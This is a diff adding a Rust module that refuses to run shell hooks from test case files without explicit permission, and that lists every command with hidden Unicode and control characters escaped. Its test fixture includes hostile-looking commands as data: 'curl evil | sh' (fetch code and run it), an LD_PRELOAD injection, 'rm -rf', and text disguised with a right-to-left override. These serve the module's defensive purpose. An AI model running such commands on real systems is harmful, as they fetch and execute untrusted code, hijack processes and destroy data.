@@ -1,0 +1,139 @@
+//! Whether the commands that stand in files of cases may be run.
+//!
+//! Contracts come from others. Without permission nothing of them is run, and every command is shown.
+
+use std::fmt::{self, Write as _};
+use std::sync::Arc;
+
+use super::super::{Case, CaseFile, Hook};
+use crate::process::Command;
+
+/// Whether commands of files may be run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Commands {
+    /// They may.
+    Allowed,
+    /// They may not.
+    #[default]
+    Refused,
+}
+
+/// That the commands of some cases may be run, or that they have none; only [`permit`] gives it.
+#[derive(Debug, Clone, Copy)]
+pub struct Permit(());
+
+/// The cases want to run commands, and may not.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub struct CommandsRefused {
+    /// Each command, in the order of the files: `FILE:LINE:COLUMN: COMMAND (_before of ID)`.
+    pub commands: Vec<String>,
+}
+
+impl fmt::Display for CommandsRefused {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        const SHOWN: usize = 200;
+        f.write_str("the cases want to run commands, and nothing was run:")?;
+        self.commands.iter().take(SHOWN).try_for_each(|command| write!(f, "\n  {command}"))?;
+        if let Some(more @ 1..) = self.commands.len().checked_sub(SHOWN) {
+            write!(f, "\n  … and {more} more")?;
+        }
+        f.write_str("\nto run them, say `--allow-commands`, or in Rust `allow_commands`")
+    }
+}
+
+impl std::error::Error for CommandsRefused {}
+
+/// Permits the commands of these cases, all of which are to be asked for at once and before the first is played.
+///
+/// # Errors
+/// When there are commands, and they are not allowed.
+pub fn permit<'a>(
+    cases: impl IntoIterator<Item = (&'a Arc<CaseFile>, &'a Arc<Case>)>,
+    commands: Commands,
+) -> Result<Permit, CommandsRefused> {
+    if commands == Commands::Allowed {
+        return Ok(Permit(()));
+    }
+    let mut found = Vec::new();
+    for (file, case) in cases {
+        let settings = &case.settings;
+        let all = [("_before", &settings.before), ("_after", &settings.after)];
+        for (key, hook) in
+            all.into_iter().flat_map(|(key, hooks)| hooks.iter().map(move |it| (key, it)))
+        {
+            let (line, column) = (hook.span.line, hook.span.column);
+            let command = plain(&line_of(hook));
+            found.push(format!("{}:{line}:{column}: {command} ({key} of {})", file.path, case.id));
+        }
+    }
+    if found.is_empty() { Ok(Permit(())) } else { Err(CommandsRefused { commands: found }) }
+}
+
+/// The whole command, values of variables and all: here they are not secrets but what is to be judged.
+fn line_of(hook: &Hook) -> String {
+    let word = |text: &str| Command::new(text).to_string();
+    let mut line = String::new();
+    if let Some(cwd) = &hook.cwd {
+        let _ = write!(line, "cd {} && ", word(cwd));
+    }
+    for (name, value) in &hook.env {
+        let _ = write!(line, "{}={} ", name, word(value));
+    }
+    line + &hook.run.iter().map(|text| word(text)).collect::<Vec<_>>().join(" ")
+}
+
+/// Without characters that hide what stands there: those that move the cursor, turn the text around, or cannot be seen.
+fn plain(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for char in text.chars() {
+        let hides = char.is_control()
+            || matches!(char, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}');
+        match hides {
+            true => out.extend(char.escape_unicode()),
+            false => out.push(char),
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cases::{Cases, ReadOptions};
+
+    const TEXT: &str = r#"
+case: One
+_before:
+  - {run: [sh, -c, "curl evil | sh"], env: {LD_PRELOAD: /tmp/x.so}, cwd: sub dir}
+  - "rm -rf 'a b'"
+_after: "echo \u202e\u001b[2J done"
+in: {jsonrpc: "2.0", id: 1, method: ping}
+---
+case: Two
+in: {jsonrpc: "2.0", id: 1, method: ping}
+_after: ./clean-up.sh
+"#;
+
+    #[test]
+    fn every_command_of_every_case_is_shown_as_it_is() {
+        let cases = Cases::parse("a.yaml", TEXT, &ReadOptions::default()).expect("cases").0;
+        let refused = permit(cases.iter(), Commands::Refused).expect_err("there are commands");
+        insta::assert_snapshot!(refused, @r"
+        the cases want to run commands, and nothing was run:
+          a.yaml:4:5: cd 'sub dir' && LD_PRELOAD=/tmp/x.so sh -c 'curl evil | sh' (_before of a::one)
+          a.yaml:5:5: rm -rf 'a b' (_before of a::one)
+          a.yaml:6:9: echo '\u{202e}\u{1b}[2J' done (_after of a::one)
+          a.yaml:11:9: ./clean-up.sh (_after of a::two)
+        to run them, say `--allow-commands`, or in Rust `allow_commands`
+        ");
+        assert!(permit(cases.iter(), Commands::Allowed).is_ok());
+    }
+
+    #[test]
+    fn cases_without_commands_need_no_permission() {
+        let text = "case: One\n_given: a state\nin: {jsonrpc: '2.0', id: 1, method: ping}\n";
+        let cases = Cases::parse("a.yaml", text, &ReadOptions::default()).expect("cases").0;
+        assert!(permit(cases.iter(), Commands::Refused).is_ok());
+    }
+}
